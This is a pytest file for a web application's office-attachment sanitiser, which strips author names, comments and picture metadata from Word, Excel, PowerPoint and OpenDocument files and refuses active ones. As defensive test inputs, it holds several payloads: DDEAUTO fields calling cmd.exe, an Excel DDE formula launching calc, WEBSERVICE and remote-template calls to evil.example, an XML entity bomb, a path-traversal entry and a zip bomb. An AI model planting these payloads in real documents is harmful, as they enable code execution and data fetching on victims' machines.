"""Office documents that people attach: what is kept of one shows the same and does nothing; what acts is refused."""

import io
import zipfile

import openpyxl
import pytest
from PIL import Image

from tests.office_files import DOCM, MAIN, OFFICE, PPTX, docx, odt, relation, relations, types, xlsx, zipped
from webapp.core.bare_pictures import bare_picture
from webapp.core.office.making import clean_document
from webapp.core.office.parts import NotADocument

FIELD = '<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
WORD = "<w:r><w:instrText>{text}</w:instrText></w:r>"


def field(*pieces: str) -> str:
    begin, end = FIELD.format(kind="begin"), FIELD.format(kind="end")
    return f"<w:p>{begin}{''.join(WORD.format(text=piece) for piece in pieces)}{end}</w:p>"


def made(parts) -> tuple[dict[str, bytes], str]:
    data, suffix = clean_document(zipped(parts))
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return {name: file.read(name) for name in file.namelist()}, suffix


def refusal(parts) -> str:
    with pytest.raises(NotADocument) as refused:
        clean_document(parts if isinstance(parts, bytes) else zipped(parts))
    return str(refused.value)


def test_letter_keeps_its_words_and_loses_who_wrote_it():
    parts, suffix = made(docx())

    told = [name for name, data in parts.items() if b"Joris" in data or b"Noor" in data or b"script" in data]
    assert (suffix, told, b"Lieve ouders" in parts["word/document.xml"]) == ("docx", [], True)
    assert sorted(parts) == [
        "[Content_Types].xml",
        "_rels/.rels",
        "word/_rels/document.xml.rels",
        "word/document.xml",
        "word/media/image1.jpeg",
    ]
    assert Image.open(io.BytesIO(parts["word/media/image1.jpeg"])).size == (40, 30)


def test_template_of_the_school_is_no_longer_named():
    settings = f'<w:settings xmlns:w="urn:w" xmlns:r="{OFFICE}"><w:zoom/><w:attachedTemplate r:id="rId1"/></w:settings>'
    rows = (relation("rId7", "settings", "settings.xml"),)
    template = relation("rId1", "attachedTemplate", "https://evil.example/t.dotm", outside=True)
    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": f"<Relationships>{template}</Relationships>"}

    parts, _suffix = made(docx(rows=rows, **more))

    assert [name for name, data in parts.items() if b"evil" in data or b"attachedTemplate" in data] == []
    assert b"zoom" in parts["word/settings.xml"]


def test_sheet_can_be_opened_and_does_not_tell_where_it_lay():
    data, suffix = clean_document(zipped(xlsx()))

    assert (suffix, openpyxl.load_workbook(io.BytesIO(data)).active["B1"].value) == ("xlsx", "=A1+1")
    assert b"joris" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml")


def test_sheet_of_a_real_program_is_taken():
    book, sent = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Noor", 1])
    book.properties.creator = "Joris"
    book.save(sent)

    data, suffix = clean_document(sent.getvalue())

    assert (suffix, openpyxl.load_workbook(io.BytesIO(data)).active["A1"].value, b"Joris" in data) == (
        "xlsx",
        "Noor",
        False,
    )


def test_open_document_keeps_text_and_photo():
    parts, suffix = made(odt())

    told = [name for name, data in parts.items() if b"Joris" in data or b"Noor" in data]
    assert (suffix, told) == ("odt", [])
    assert list(parts) == ["mimetype", "content.xml", "Pictures/1.jpg", "META-INF/manifest.xml"]


def test_links_to_pages_stay_and_other_links_lead_nowhere():
    rows = (
        relation("rId5", "hyperlink", "https://school.example/", outside=True),
        relation("rId6", "hyperlink", "file:///c:/x.exe", outside=True),
    )

    parts, _suffix = made(docx(rows=rows))

    links = parts["word/_rels/document.xml.rels"]
    assert (b"https://school.example/" in links, b"x.exe" in links, b"about:blank" in links) == (True, False, True)


@pytest.mark.parametrize(
    "parts",
    [
        docx(main=DOCM),
        docx(rows=(relation("r", "vbaProject", "vbaProject.bin"),), **{"word/vbaProject.bin": b"VBA"}),
        docx(rows=(relation("r", "oleObject", "embeddings/o.bin"),), **{"word/embeddings/o.bin": b"OLE"}),
        docx(rows=(relation("r", "image", "https://evil.example/x.png", outside=True),)),
        docx(rows=(relation("r", "aFChunk", "x.html"),), **{"word/x.html": "<script/>"}),
        docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
        docx(field(" DD", "E cmd")),
        docx(field('INCLUDETEXT "https://evil.example"')),
        docx('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'),
        docx("<w:object/>" + '<o:OLEObject xmlns:o="urn:o" Type="Link"/>'),
        xlsx("cmd|'/c calc'!A0"),
        xlsx('_xlfn.WEBSERVICE("https://evil.example")'),
        xlsx(rows=(relation("r", "externalLink", "e.xml"),), **{"xl/e.xml": "<externalLink/>"}),
        xlsx(rows=(relation("r", "connections", "c.xml"),), **{"xl/c.xml": "<connections/>"}),
        odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
        odt('<draw:image xlink:href="https://evil.example/x.png"/>'),
        odt('<office:event-listeners><script:event-listener/></office:event-listeners>'),
        odt('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>'),
    ],
)  # fmt: skip
def test_what_acts_or_fetches_is_refused(parts):
    assert refusal(parts) == "active_file"


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    "parts",
    [
        b"PK\x03\x04" + bytes(100),
        zipped(docx())[:700],
        {"a.txt": "tekst"},
        docx(**{"../../etc/passwd": "x"}),
        docx(**{"word/DOCUMENT.xml": "<x/>"}),
        docx(**{"word/document.xml": BOMB}),
        docx(**{"word/document.xml": "geen xml"}),
        docx(**{"word/media/image1.jpeg": b"GIF89a<script>"}),
        docx(**{"word/zeros.xml": bytes(101 * 1024 * 1024)}),
        {f"{n}.xml": "<x/>" for n in range(3_001)},
        odt(mimetype="application/vnd.oasis.opendocument.database"),
        odt(**{"content.xml": BOMB}),
    ],
    ids=["zip", "half", "none", "slip", "twice", "entities", "text", "gif", "bomb", "parts", "odb", "odt-bomb"],
)  # fmt: skip
def test_what_is_no_document_that_we_take_is_refused(parts):
    assert refusal(parts) == "not_an_attachment"


def test_same_document_sent_twice_is_the_same_file():
    sent = zipped(docx())

    assert clean_document(sent) == clean_document(sent)


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_picture_in_a_paper_looks_the_same_and_tells_nothing(form):
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = "Noor thuis"
    picture = Image.effect_noise((64, 48), 50).convert("RGB")
    picture.save(out, form, exif=exif, icc_profile=b"Noor", progressive=True)
    sent = out.getvalue()

    bare = bare_picture(sent + b"<script>Noor</script>")

    assert Image.open(io.BytesIO(bare)).tobytes() == Image.open(io.BytesIO(sent)).tobytes()
    assert (b"Noor" in bare, bare_picture(bare) == bare) == (False, True)


def slides(action: str = "ppaction://hlinkshowjump?jump=nextslide") -> dict[str, str | bytes]:
    """A slide on a layout on a master, which lead back to each other, with a remark and a mark of some program."""
    space = "http://schemas.openxmlformats.org/presentationml/2006/main"
    root = f'xmlns:p="{space}" xmlns:a="urn:a" xmlns:r="{OFFICE}"'
    parts = {"ppt/presentation.xml": PPTX, "ppt/slides/slide1.xml": f"{MAIN}.presentationml.slide+xml"}
    return {
        "[Content_Types].xml": types(**parts),
        "_rels/.rels": relations(relation("rId1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": f'<p:presentation {root}><p:sldId r:id="rId1"/></p:presentation>',
        "ppt/_rels/presentation.xml.rels": relations(
            relation("rId1", "slide", "slides/slide1.xml"), relation("rId2", "commentAuthors", "commentAuthors.xml")
        ),
        "ppt/commentAuthors.xml": "<x>Joris</x>",
        "ppt/slides/slide1.xml": (
            f'<p:sld {root}><p:cSld><a:t>Musical</a:t><a:hlinkClick r:id="" action="{action}"/></p:cSld>'
            f'<p:custDataLst><p:tags r:id="rId3"/></p:custDataLst></p:sld>'
        ),
        "ppt/slides/_rels/slide1.xml.rels": relations(
            relation("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"),
            relation("rId2", "comments", "../comments/comment1.xml"),
            relation("rId3", "tags", "../tags/tag1.xml"),
        ),
        "ppt/comments/comment1.xml": "<x>Joris</x>",
        "ppt/tags/tag1.xml": "<x>Joris</x>",
        "ppt/slideLayouts/slideLayout1.xml": f"<p:sldLayout {root}/>",
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": relations(
            relation("rId1", "slideMaster", "../slideMasters/slideMaster1.xml")
        ),
        "ppt/slideMasters/slideMaster1.xml": f"<p:sldMaster {root}/>",
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": relations(
            relation("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml")
        ),
    }


def test_slides_keep_what_is_shown_and_lose_remarks_and_marks():
    parts, suffix = made(slides())

    assert (suffix, [name for name, data in parts.items() if b"Joris" in data or b"tags" in data]) == ("pptx", [])
    assert sorted(name for name in parts if name.endswith("1.xml")) == [
        "ppt/slideLayouts/slideLayout1.xml",
        "ppt/slideMasters/slideMaster1.xml",
        "ppt/slides/slide1.xml",
    ]
    assert b"Musical" in parts["ppt/slides/slide1.xml"]


@pytest.mark.parametrize("action", ["ppaction://program", "ppaction://macro?name=x", "ppaction://ole?verb=0"])
def test_slide_that_starts_something_is_refused(action):
    assert refusal(slides(action)) == "active_file"


@pytest.mark.parametrize(
    ("kind", "suffix"), [("spreadsheet", "ods"), ("presentation", "odp"), ("text", "odt"), ("chart", None)]
)
def test_kind_of_an_open_document_is_told_by_what_it_holds(kind, suffix):
    sent = odt(mimetype=f"application/vnd.oasis.opendocument.{kind}")

    assert refusal(sent) == "not_an_attachment" if suffix is None else made(sent)[1] == suffix
